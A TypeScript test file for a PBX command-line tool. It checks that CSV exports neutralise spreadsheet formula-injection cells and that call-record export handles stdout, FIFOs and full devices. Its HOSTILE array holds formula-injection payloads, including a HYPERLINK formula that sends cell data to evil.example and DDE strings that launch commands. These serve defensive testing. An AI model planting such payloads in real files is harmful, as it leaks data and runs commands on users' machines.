/**
 * What the CLI writes is safe to open: CSV cells a spreadsheet would run as formulas are
 * neutralised unless --unsafe-csv; `cdrs export --out` writes to stdout (-), into a FIFO,
 * and fails (exit 1, never 0) on a full device.
 */
import { spawnSync } from 'node:child_process';
import { lstatSync, readFileSync, statSync, symlinkSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Cdr } from '../../src/index.js';
import { VENDORS, VENDOR_IDS } from '../../src/index.js';
import { EXIT } from '../../src/cli/exit-codes.js';
import { BatchEncoder, csvRow, neutraliseFormula, recordColumns } from '../../src/cli/output.js';
import { CDR } from '../../src/cli/records.js';
import { cleanEnv, killLeftovers, removeDir, run, startSim, tempDir, writeConfig, type Sim } from './support.js';

vi.setConfig({ testTimeout: 90_000, hookTimeout: 60_000 });
afterAll(killLeftovers);

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1'];

describe('CSV formula injection', () => {
  it('prefixes cells starting with =, +, -, @, tab or CR with a quote; plain signed numbers and ordinary text stay', () => {
    for (const text of HOSTILE) expect(neutraliseFormula(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of ['Alice', '+46701234567', '-5', '-0.25', 'a=b', '', "'already"]) expect(neutraliseFormula(text)).toBe(text);
  });

  it('the export encoder neutralises hostile caller names by default and keeps them with formulas: true', () => {
    const cdr = {
      id: 'c1',
      callId: 'k1',
      startedAt: new Date('2025-01-01T00:00:00Z'),
      direction: 'inbound',
      from: { number: '+15551234567', name: HOSTILE[0] },
      to: { number: '101', name: '@reception' },
      disposition: 'answered',
      durationSeconds: 5,
      talkSeconds: 3,
      vendor: 'test',
    } as unknown as Cdr;
    const columns = recordColumns(CDR).map((c) => c.key);
    const encode = (formulas: boolean) => {
      const encoder = new BatchEncoder('csv', columns, { formulas });
      return parse(encoder.head() + encoder.batch([csvRow(cdr, CDR)]) + encoder.tail(), { columns: true }) as Array<Record<string, string>>;
    };
    const [safe] = encode(false);
    expect(safe!['fromName']).toBe(`'${HOSTILE[0]}`);
    expect(safe!['toName']).toBe("'@reception");
    expect(safe!['fromNumber']).toBe('+15551234567');
    const [raw] = encode(true);
    expect(raw!['fromName']).toBe(HOSTILE[0]);
  });

  const CREATE = VENDOR_IDS.find((v) => VENDORS[v].capabilities['users.create'].support !== 'unsupported');
  it.runIf(CREATE !== undefined)('users list --csv on a PBX holding a hostile display name; --unsafe-csv keeps it', async () => {
    const home = tempDir();
    const s = await startSim(CREATE!, { seed: 8, users: 4, cdrs: 0 });
    try {
      await s.client.users.create({ extension: '7301', displayName: HOSTILE[0]!, email: 'evil@example.com' });
      const env = cleanEnv(home, { UNIPBX_CONFIG: writeConfig(home, { s }), UNIPBX_PROFILE: 's' });
      const [safe, unsafe] = await Promise.all([run(['users', 'list', '--csv'], { env }), run(['users', 'list', '--csv', '--unsafe-csv'], { env })]);
      expect(safe.code, safe.stderr).toBe(EXIT.OK);
      expect(unsafe.code, unsafe.stderr).toBe(EXIT.OK);
      const name = (text: string) => (parse(text, { columns: true }) as Array<Record<string, string>>).find((r) => r['extension'] === '7301')?.['displayName'];
      expect(name(safe.stdout)).toBe(`'${HOSTILE[0]}`);
      expect(name(unsafe.stdout)).toBe(HOSTILE[0]);
    } finally {
      await s.close();
      removeDir(home);
    }
  });
});

const CDRS = VENDOR_IDS.find((v) => VENDORS[v].capabilities['cdrs.list'].support !== 'unsupported')!;

describe('cdrs export --out targets', () => {
  let home: string;
  let s: Sim;
  let env: Record<string, string>;
  let range: string[];
  beforeAll(async () => {
    home = tempDir();
    s = await startSim(CDRS, { seed: 9, users: 5, cdrs: 120, now: () => Date.parse('2025-03-14T12:00:00Z') });
    env = cleanEnv(home, { UNIPBX_CONFIG: writeConfig(home, { s }), UNIPBX_PROFILE: 's' });
    range = ['--from', s.sim.facts.cdrRange.from.toISOString(), '--to', s.sim.facts.cdrRange.to.toISOString()];
  });
  afterAll(async () => {
    await s?.close();
    removeDir(home);
  });

  it('--out - writes the file content to stdout, the summary to stderr', async () => {
    const file = join(home, 'calls.csv');
    const [toStdout, toFile] = await Promise.all([run(['cdrs', 'export', ...range, '--out', '-'], { env }), run(['cdrs', 'export', ...range, '--out', file], { env })]);
    expect(toStdout.code, toStdout.stderr).toBe(EXIT.OK);
    expect(toFile.code, toFile.stderr).toBe(EXIT.OK);
    expect(toStdout.stdout).toBe(readFileSync(file, 'utf8'));
    expect(toStdout.stderr).toMatch(/exported \d+ call records to stdout \(csv\)/);
  });

  it('a FIFO: written in place, exit 0, still a FIFO', async () => {
    const fifo = join(home, 'pipe.ndjson');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const [result, text] = await Promise.all([run(['cdrs', 'export', ...range, '--out', fifo], { env }), readFile(fifo, 'utf8')]);
    expect(result.code, result.stderr).toBe(EXIT.OK);
    const expected = await s.client.cdrs.list({ from: s.sim.facts.cdrRange.from, to: s.sim.facts.cdrRange.to }).toArray();
    expect(text.trim().split('\n')).toHaveLength(expected.length);
    expect(lstatSync(fifo).isFIFO()).toBe(true);
  });

  const full = statSync('/dev/full', { throwIfNoEntry: false });
  it.runIf(full?.isCharacterDevice() === true)('a link to a full device: exit 1 with the reason, the link and the device stay', async () => {
    const link = join(home, 'full.csv');
    symlinkSync('/dev/full', link);
    const result = await run(['cdrs', 'export', ...range, '--out', link], { env });
    expect(result.code, result.stderr).toBe(EXIT.ERROR);
    expect(result.stderr).toContain(`cannot write ${link}: no space left on the device`);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(statSync('/dev/full').isCharacterDevice()).toBe(true);
  });
});
